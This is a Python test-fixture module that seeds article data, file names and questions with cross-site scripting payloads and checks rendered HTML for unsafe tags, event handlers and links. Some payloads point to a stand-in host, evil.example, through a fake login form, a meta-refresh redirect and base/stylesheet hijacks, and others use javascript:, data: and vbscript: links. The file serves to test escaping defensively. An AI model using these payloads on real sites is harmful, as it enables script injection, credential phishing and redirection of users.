"""Articles that attack whoever shows them: in texts, titles, outlets, links, ids and file names.

Each payload sets `window.hacked` or opens a dialog where it is run, or draws an element where it
is read as markup.
"""

from __future__ import annotations

import json
from html.parser import HTMLParser
from pathlib import Path

PAYLOADS = (
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=2>",
    "<svg/onload=window.hacked=3>",
    "\"><iframe srcdoc='<script>parent.hacked=4</script>'></iframe>",
    "' onfocus=window.hacked=5 autofocus tabindex=1 x='",
    "<a href=javascript:window.hacked=6>here</a>",
    "[here](javascript:window.hacked=7) ![x](x:y)",
    "${window.hacked=8} {{window.hacked=9}} #{window.hacked=10}",
    "</textarea></title></style><script>alert(11)</script>",
    "<style>*{display:none!important}</style>",
    "&lt;script&gt;window.hacked=12&lt;/script&gt;",
    "<details open ontoggle=alert(13)><summary>x</summary></details>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(14)>",
    "<form action=//evil.example><button>Log in</button></form>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
)
LINKS = (
    "javascript:window.hacked=20",
    " JaVaScRiPt:alert(21)",
    "data:text/html,<script>alert(22)</script>",
    "//evil.example/x",
    'https://evil.example/" onclick=alert(23) x="',
    "vbscript:alert(24)",
)
QUESTION = "Who repaired the lighthouse of Harwick?"


def write_articles(folder: Path) -> Path:
    """An article a payload, in every place that an article has, and a file a payload."""
    folder.mkdir(parents=True, exist_ok=True)
    rows = [
        {
            "id": f"{number}{payload}",
            "title": f"Harwick {payload}",
            "text": f"Nora Quill repaired the lighthouse of Harwick in {1900 + number}. {payload} "
            f"She was paid {number} crowns for the lighthouse {payload} of Harwick.",
            "source": f"Post {payload}",
            "date": f"2019-03-{1 + number:02}",
            "language": "en",
            "url": LINKS[number % len(LINKS)],
        }
        for number, payload in enumerate(PAYLOADS)
    ]
    lines = "".join(json.dumps(row) + "\n" for row in rows)
    (folder / "rows.jsonl").write_text(lines, encoding="utf-8")
    for number, payload in enumerate(PAYLOADS):
        name = f"{number}{payload}".replace("/", "\u2215")[:100]
        text = f"date 2019-05 The lighthouse keeper of Harwick {payload} is named Ole {number}.\n"
        (folder / f"{name}.txt").write_text(text, encoding="utf-8")
    examples = {"doc_ids": [rows[0]["id"]], "lang": "en", "kind": "factoid"}
    questions = [{**examples, "question": f"Who {payload}?"} for payload in PAYLOADS[:3]]
    lines = "".join(json.dumps(question) + "\n" for question in questions)
    (folder / "questions.jsonl").write_text(lines, encoding="utf-8")
    return folder


class Markup(HTMLParser):
    """What a browser would make of a piece of HTML: its elements, and what could do harm."""

    _PLAIN = frozenset(
        "a article aside b blockquote br button caption cite datalist dd details dialog div dl dt "
        "em fieldset footer form h1 h2 h3 h4 header i input kbd label legend li main mark nav ol "
        "option p path progress q section select small span strong sub summary sup svg table tbody "
        "td template textarea th thead time tr u ul wbr".split()
    )

    _LINKS = ("https://", "http://", "#", "../#article=", "share/", "conversations/")

    def __init__(self, html: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.elements: set[str] = set()
        self.attributes: set[str] = set()
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self._PLAIN:
            self.wrong.append(f"<{tag}>")
        self.elements.add(tag)
        self.attributes |= {name for name, _ in attrs}
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "src", "srcdoc", "action", "formaction"):
                self.wrong.append(f"<{tag} {name}>")
            if name == "href" and not str(value).startswith(self._LINKS):
                self.wrong.append(f"<{tag} href={value}>")
